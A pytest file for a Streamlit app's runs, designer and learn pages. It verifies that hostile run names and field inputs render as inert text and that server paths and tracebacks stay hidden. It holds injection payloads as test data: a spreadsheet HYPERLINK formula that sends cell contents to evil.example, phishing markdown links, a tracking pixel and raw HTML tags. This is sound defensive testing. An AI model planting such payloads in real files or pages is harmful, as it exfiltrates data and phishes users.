"""A run named with markdown, HTML or a spreadsheet formula is shown as that text on the
Runs page: heading, table (and so its toolbar's CSV) and overlay legend. Issue 29: the
link, image and HTML payloads of its probe, fed to every page through links, typed
fields and stored runs, draw no link, image or HTML, and no page shows a server path."""

from __future__ import annotations

import json
import logging
import sqlite3
import sysconfig
import tempfile
from pathlib import Path

import numpy as np
import pytest
from apptest_helpers import APP, open_designer_link, open_learn, open_page
from markdown_oracle import live_elements
from streamlit.testing.v1 import AppTest

from clr_core.engine.results import RangeTestResult
from clr_core.present import plots
from clr_core.runs.connection import default_db_path, store_error
from clr_core.runs.reports import RangeTestReport
from clr_core.runs.store import RunStore
from clr_core.setup.data_roots import allowed_roots
from clr_core.suggest.types import Suggestion

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'
LINK = '<a href="https://evil.example">x</a> **bold** :red[alarm] $x$'


def _saved(label: str) -> int:
    valley = Suggestion("valley", 2.5e-3, 1e-2, "test", "test", 1, 1e-2, 2.0)
    rt = RangeTestResult(np.array([1e-3, 1e-2, 1e-1]), np.array([2.3, 2.0, 2.5]),
                         np.array([2.3, 2.1, 2.2]), False, "completed",
                         suggestions={"valley": valley})
    report = RangeTestReport(rt, config={"dataset": "digits"}, headline="h")
    return RunStore().save_run("range_test", {"dataset": "digits"}, report.to_dict(),
                               label=label)


def test_hostile_run_names_are_text_everywhere_on_the_runs_page():
    a, b = _saved(FORMULA), _saved(LINK)
    at = open_page("pages/runs.py")
    table = at.dataframe[0].value
    shown = list(table["run"])  # the run label starts with the name its maker gave it
    assert any(r.startswith("'" + FORMULA) for r in shown)  # the toolbar's CSV exports this
    assert not any(r.startswith("=") for r in shown)
    at.multiselect(key="runs.open").set_value([b]).run()
    assert not at.exception, at.exception
    heading = at.subheader[0].value
    assert "\\*\\*bold\\*\\*" in heading and "\\:red\\[alarm\\]" in heading and "\\$x\\$" in heading
    assert "\\<a href" in heading
    at.multiselect(key="runs.open").set_value([a, b]).run()
    assert not at.exception, at.exception
    spec = json.dumps([json.loads(c.proto.spec)["data"] for c in at.get("plotly_chart")])
    assert "<a href" not in spec and "&lt;a href=" in spec


# --- issue 29: links, images and server paths injected through links, fields and stored runs ---

PHISH = "[Click here](https://evil.example/phish)"
PIXEL = "![x](https://evil.example/pixel.png)"
BARE = "https://evil.example/phish www.evil.example phish@evil.example"
HTML = '<img src="https://evil.example/p.png"><a href="https://evil.example">x</a>'

#: The designer links of issue 29's probe (and their cousins): each quoted in an error.
DESIGNER_LINKS = [
    {"policy": "triangular", "base_lr": PHISH},
    {"policy": "triangular", PIXEL: "1"},
    {"policy": "[Click me](https://evil.example)"},
    {"policy": "phases", "phases": "[Click me](https://evil.example) 0:1e-3"},
    {"policy": "phases", "phases": '[{"shape": "[x](https://evil.example)", "steps": 1}]'},
    {"policy": "triangular", "max_lr": BARE},
    {"policy": "one_cycle", "total_steps": HTML},
]
LEARN_LINKS = [
    {"lesson": "[Click me](https://evil.example)"},
    {"lesson": "1", "lr": PHISH},
    {"lesson": "1", "seeds": BARE + " " + PIXEL},
    {"lesson": "range_test", "num_iter": HTML},
]


def _texts(at) -> list[str]:
    """Every piece of markdown the page drew: alerts, text, headings, labels, table cells."""
    out = []
    for name in ("error", "warning", "info", "success", "caption", "markdown", "subheader",
                 "header", "title"):
        out += [str(el.value) for el in getattr(at, name)]
    out += [e.message for e in at.exception]
    for name in ("text_input", "selectbox", "multiselect", "button", "checkbox", "toggle",
                 "number_input", "radio", "expander", "tabs"):
        out += [str(w.label) for w in getattr(at, name)]
    for table in at.table:
        frame = table.value
        out += [str(c) for c in frame.columns] + [str(v) for v in frame.to_numpy().ravel()]
    return out


def _server_paths() -> list[str]:
    paths = {tempfile.gettempdir(), str(Path.home()), str(Path(__file__).resolve().parents[2]),
             str(default_db_path()), str(default_db_path().parent), sysconfig.get_paths()["purelib"]}
    paths |= {str(p) for p in allowed_roots()}
    return sorted(p for p in paths if len(p) > 1)


def _assert_clean(at) -> list[str]:
    """No link, image or HTML to evil.example and no server path anywhere on the page."""
    assert not at.exception, at.exception
    texts = _texts(at)
    live = [f"{e} in {t[:120]!r}" for t in texts for e in live_elements(t) if "evil" in e.lower()]
    assert live == []
    code = [str(c.value) for c in at.code]  # drawn as code or a grid, never as links: paths only
    grid = [str(v) for d in at.dataframe for v in d.value.to_numpy().ravel()]
    leaked = [(p, t[:200]) for t in texts + code + grid for p in _server_paths() if p in t]
    assert leaked == []
    return texts


def _quoted(texts: list[str]) -> bool:
    """The payload reached the page (as text): so the checks above had something to check."""
    return any("evil" in t for t in texts)


@pytest.mark.parametrize("query", DESIGNER_LINKS, ids=range(len(DESIGNER_LINKS)))
def test_designer_links_show_their_payload_as_text(query):
    at = open_designer_link(query)
    texts = _assert_clean(at)
    assert _quoted([e.value for e in at.error]), texts


@pytest.mark.parametrize("query", LEARN_LINKS, ids=range(len(LEARN_LINKS)))
def test_learn_links_show_their_payload_as_text(query):
    at = open_learn(query)
    _assert_clean(at)
    assert _quoted([e.value for e in at.error])


@pytest.mark.parametrize("page", ["pages/designer.py", "pages/range_test.py", "pages/training.py",
                                  "pages/sweeps.py"])
@pytest.mark.parametrize("payload", [PHISH, BARE, HTML, PIXEL + " :red[x] $x$ `y`"])
def test_every_number_box_quotes_a_payload_as_text(page, payload):
    at = open_page(page)
    boxes = [box for box in at.text_input if box.key and "label" not in box.key]
    assert boxes, page
    for box in boxes:
        box.set_value(payload)
    at.run()
    texts = _assert_clean(at)
    assert _quoted([e.value for e in at.error]), texts


def test_a_run_named_and_failed_with_urls_and_paths_is_text_without_paths():
    data = allowed_roots()[0]
    run_id = RunStore().save_run(
        "range_test", {"dataset": "mnist"}, None, status="failed",
        label=f"see {BARE} {PHISH}",
        error=f"DatasetUnavailable: not found at {data}/MNIST/raw (see {BARE}) {HTML}")
    stored = RunStore().load_run(run_id).error
    assert str(data) not in stored and "<data root>/MNIST/raw" in stored
    at = open_page("pages/runs.py")
    at.multiselect(key="runs.open").set_value([run_id]).run()
    _assert_clean(at)
    assert "evil" in at.subheader[0].value
    box = next(e.value for e in at.error if e.value.startswith("This run failed"))
    assert "evil" in box and "data root" in box


def test_an_old_stored_error_with_a_path_is_shown_without_it():
    """Runs stored before errors were scrubbed: the page scrubs what it draws, too."""
    store = RunStore()
    run_id = store.save_run("range_test", {"dataset": "mnist"}, None, status="failed")
    home = Path.home()
    with sqlite3.connect(store.path) as conn:
        conn.execute("UPDATE runs SET error = ? WHERE id = ?",
                     (f"OSError: {home}/.cache/clr_studio/MNIST/raw/t10k.gz", run_id))
    at = open_page("pages/runs.py")
    at.multiselect(key="runs.open").set_value([run_id]).run()
    _assert_clean(at)
    box = next(e.value for e in at.error if e.value.startswith("This run failed"))
    assert "MNIST" in box and str(home) not in box


def test_events_without_an_iteration_give_an_error_id_not_a_traceback(caplog):
    run_id = RunStore().save_run("range_test", {"dataset": "digits", "num_iter": 5}, None,
                                 status="interrupted",
                                 events=[{"kind": "step", "lr": 0.01, "loss": 2.3}])
    at = open_page("pages/runs.py")
    with caplog.at_level(logging.ERROR, logger="clr_studio.unexpected"):
        at.multiselect(key="runs.open").set_value([run_id]).run()
    texts = _assert_clean(at)
    assert not any("Traceback" in t or 'File "' in t for t in texts)
    shown = [e.value for e in at.error if "error id" in e.value]
    assert len(shown) == 1, [e.value for e in at.error]
    error_id = shown[0].split("error id ")[1][:8]
    logged = [r for r in caplog.records if error_id in r.getMessage()]
    assert logged and logged[0].exc_info is not None  # the traceback is in the server's log


def test_a_busy_store_is_named_by_role(monkeypatch):
    path = RunStore().path

    def busy(*args, **kwargs):
        raise store_error(path, sqlite3.OperationalError("database is locked"))

    monkeypatch.setattr(RunStore, "list_runs", busy)
    for page in ("pages/runs.py", "pages/overview.py"):
        at = open_page(page)
        _assert_clean(at)
        warning = next(w.value for w in at.warning if "busy" in w.value)
        assert str(path) not in warning and "run store" in warning


def test_the_overviews_recent_runs_table_draws_names_as_text():
    """st.table draws every cell as markdown: a run's name is text there too."""
    RunStore().save_run("range_test", {"dataset": "digits"}, None, status="failed",
                        label=f"overview {PHISH} {BARE} {HTML}")
    at = open_page("pages/overview.py")
    _assert_clean(at)
    cells = [str(v) for t in at.table for v in t.value.to_numpy().ravel()]
    assert any("evil" in c for c in cells)


def test_an_unplanned_error_shows_an_error_id_not_its_message(monkeypatch, caplog):
    """An error no page catches (here: drawing the designer's preview fails): app.py logs
    its traceback under an id the page shows; Streamlit's own box names its type only
    (client.showErrorDetails = "type"), never its message, traceback or a server path."""
    secret = f"{Path.home()}/.cache/clr_studio/secret.db"

    def boom(*args, **kwargs):
        raise RuntimeError(f"cannot read {secret}")

    monkeypatch.setattr(plots, "schedule_figures", boom)  # the page imports it on each run
    at = AppTest.from_file(APP, default_timeout=60)
    with caplog.at_level(logging.ERROR, logger="clr_studio.unexpected"):
        at.run()
    assert len(at.exception) == 1 and at.exception[0].proto.type == "RuntimeError"
    assert secret not in at.exception[0].message and not at.exception[0].stack_trace
    box = next(e.value for e in at.error if "error id" in e.value)
    error_id = box.split("error id ")[1][:8]
    assert any(error_id in r.getMessage() and r.exc_info for r in caplog.records)
    assert not any(secret in t for t in _texts(at))
